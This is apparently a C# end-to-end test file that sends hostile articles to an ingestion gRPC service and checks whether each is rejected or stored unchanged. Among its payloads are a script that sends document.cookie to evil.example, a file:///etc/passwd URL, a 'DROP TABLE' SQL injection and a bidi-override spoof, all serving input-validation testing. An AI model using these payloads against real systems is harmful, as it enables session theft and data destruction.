using Google.Protobuf.WellKnownTypes;
using Grpc.Core;
using Summaries.Contracts.Ingestion.V1;

namespace Summaries.EndToEnd.Tests.HostileInput;

/// <summary>Hostile articles sent to <c>IngestionService.CreateArticle</c>.</summary>
public static class IngestionCreateCases
{
    private const string Rpc = "IngestionService.CreateArticle";
    private const string MessageTooLarge = "exceeds the maximum configured message size";

    public static IEnumerable<HostileCase> All() =>
    [
        Rejected("create-empty-body", "empty body", a => a.Body = string.Empty, "article.body"),
        Rejected("create-whitespace-body", "body of spaces, tabs, newlines, NBSP and ideographic spaces", a => a.Body = " \t\r\n\u00A0\u3000\n ", "article.body"),
        Rejected("create-whitespace-title", "title of whitespace only", a => a.Title = " \t\u2003 ", "article.title"),
        new("create-missing-article", Rpc, "no `article` at all", StatusCode.InvalidArgument, new FieldViolations("article"),
            s => s.IngestionClient.CreateArticleAsync(new CreateArticleRequest { RequestId = "no-article" }).ResponseAsync),
        Rejected("create-body-10mb", "10 MB body (10,485,760 characters; limit 1,000,000)", a => a.Body = new string('a', 10 * 1024 * 1024), "article.body"),
        new("create-body-17mb", Rpc, "17 MB body: a message over the 16 MB receive limit", StatusCode.ResourceExhausted,
            new TransportStatus(MessageTooLarge, "gRPC receive limit"),
            s => s.IngestionClient.CreateArticleAsync(new CreateArticleRequest
            {
                Article = HostileSystemFixture.NewArticle("17mb", a => a.Body = new string('a', 17 * 1024 * 1024)),
            }).ResponseAsync),
        Stored("create-single-token-1mb", "body of one 1,000,000-character token",
            a => a.Body = Guid.NewGuid().ToString("N") + new string('x', 1_000_000 - 32)),
        Stored("create-100k-sentences", "body of 100,001 sentences (800 KB)",
            a => a.Body = $"Ref {Guid.NewGuid():N}. " + string.Concat(Enumerable.Repeat("It ran. ", 100_000))),
        Stored("create-nested-quotes", "body of 20,000 opening then 20,000 closing quotation marks around one word",
            a => a.Body = new string('“', 20_000) + Guid.NewGuid().ToString("N") + new string('”', 20_000)),
        Stored("create-repeated-quotes", "body of 20,000 quoted words in a row (`\"a\" \"a\" …`)",
            a => a.Body = Guid.NewGuid().ToString("N") + " " + string.Concat(Enumerable.Repeat("\"a\" ", 20_000))),
        Rejected("create-nul-in-body", "U+0000 inside the body", a => a.Body += "\0after", "article.body"),
        Rejected("create-nul-in-title", "U+0000 inside the title", a => a.Title += "\0", "article.title"),
        Rejected("create-control-chars-in-title", "BEL and an ANSI escape sequence in the title", a => a.Title += "\u0007\u001B[31m red", "article.title"),
        Rejected("create-control-chars-in-body", "ANSI escape (ESC) and DEL in the body", a => a.Body += " \u001B[2J\u007F", "article.body"),
        Stored("create-bidi-override-title", "title with U+202E RIGHT-TO-LEFT OVERRIDE (\"Trojan Source\" spoofing)",
            a => a.Title = "Invoice \u202Etxt.exe\u202C paid"),
        Stored("create-html-script", "`<script>` and `<img onerror>` in title and body",
            a =>
            {
                a.Title = "<script>alert('title')</script> Harbour";
                a.Body = "<img src=x onerror=alert(1)>\n\n" + a.Body + "\n\n<script>fetch('https://evil.example/'+document.cookie)</script>";
            }),
        Rejected("create-url-not-absolute", "URL `not a url`", a => a.Url = "not a url", "article.url"),
        Rejected("create-url-javascript", "URL `javascript:alert(1)`", a => a.Url = "javascript:alert(1)", "article.url"),
        Rejected("create-url-file", "URL `file:///etc/passwd`", a => a.Url = "file:///etc/passwd", "article.url"),
        Rejected("create-url-too-long", "URL of 3,000 characters (limit 2,048)", a => a.Url = "https://example.com/" + new string('a', 3_000), "article.url"),
        Rejected("create-publish-time-future", "publish time ten years ahead", a => a.PublishTime = Timestamp.FromDateTimeOffset(DateTimeOffset.UtcNow.AddYears(10)), "article.publish_time"),
        Rejected("create-publish-time-out-of-range", "publish time with seconds = 2^62 (outside Timestamp's range)", a => a.PublishTime = new Timestamp { Seconds = 1L << 62 }, "article.publish_time"),
        Rejected("create-publish-time-negative-nanos", "publish time with nanos = -1", a => a.PublishTime = new Timestamp { Seconds = 1_700_000_000, Nanos = -1 }, "article.publish_time"),
        Rejected("create-language-injection", "language `en'; DROP TABLE articles;--`", a => a.Language = "en'; DROP TABLE articles;--", "article.language"),
        Rejected("create-title-too-long", "title of 1,001 characters", a => a.Title = new string('T', 1_001), "article.title"),
        Rejected("create-source-too-long", "source of 501 characters", a => a.Source = new string('S', 501), "article.source"),
        Rejected("create-boilerplate-only", "body of captions and boilerplate only", a => a.Body = "Advertisement\n\nGetty Images\n\nSign up for our newsletter", "article.body"),
        Rejected("create-invisible-only", "body of zero-width spaces and BOMs only", a => a.Body = "\u200B\uFEFF\u200B\u2060", "article.body"),
        new("create-request-id-too-long", Rpc, "request_id of 129 characters", StatusCode.InvalidArgument, new FieldViolations("request_id"),
            s => s.IngestionClient.CreateArticleAsync(new CreateArticleRequest
            {
                Article = HostileSystemFixture.NewArticle("request-id"),
                RequestId = new string('r', 129),
            }).ResponseAsync),
        Rejected("create-many-problems", "empty title, `javascript:` URL and a bad language at once",
            a => { a.Title = string.Empty; a.Url = "javascript:void(0)"; a.Language = "???"; },
            "article.title", "article.url", "article.language"),
        new("create-request-id-replayed", Rpc, "a request_id replayed with a different text", StatusCode.OK,
            new Succeeds("the article stored the first time is returned; the new text is not stored"),
            ReplayedRequestIdAsync),
    ];

    /// <summary>INVALID_ARGUMENT naming the fields; nothing stored under the case's source.</summary>
    private static HostileCase Rejected(string id, string input, Action<Article> change, params string[] fields)
    {
        var source = "hostile " + id;
        return new(id, Rpc, input, StatusCode.InvalidArgument, new FieldViolations(fields),
            s => s.IngestionClient.CreateArticleAsync(new CreateArticleRequest
            {
                Article = HostileSystemFixture.NewArticle(id, a => { a.Source = source; change(a); }),
            }).ResponseAsync,
            async s =>
            {
                var listed = await s.IngestionClient.ListArticlesAsync(new ListArticlesRequest { Filter = $"source = \"{source}\"" });
                Assert.Empty(listed.Articles);
            });
    }

    /// <summary>OK: stored exactly as sent, and annotated by the entity service within 30 s.</summary>
    private static HostileCase Stored(string id, string input, Action<Article> change) =>
        new(id, Rpc, input, StatusCode.OK, new Succeeds("stored exactly as sent; annotation DONE"), async s =>
        {
            var sent = HostileSystemFixture.NewArticle(id, change);
            var created = (await s.IngestionClient.CreateArticleAsync(new CreateArticleRequest { Article = sent })).Article;
            var stored = await s.SettledAsync(created.Name, TimeSpan.FromSeconds(30));
            Assert.Equal(sent.Title, stored.Title);
            Assert.Equal(sent.Body, stored.Body);
            Assert.True(stored.AnnotationState == AnnotationState.Done, $"{stored.AnnotationState}: {stored.AnnotationError}");
        });

    private static async Task ReplayedRequestIdAsync(HostileSystemFixture s)
    {
        var requestId = "replay-" + Guid.NewGuid().ToString("N");
        var first = await s.IngestionClient.CreateArticleAsync(new CreateArticleRequest { Article = HostileSystemFixture.NewArticle("replay-1"), RequestId = requestId });
        var second = await s.IngestionClient.CreateArticleAsync(new CreateArticleRequest { Article = HostileSystemFixture.NewArticle("replay-2"), RequestId = requestId });

        Assert.Equal(first.Article.Name, second.Article.Name);
        Assert.Equal(first.Article.Body, second.Article.Body);
    }
}
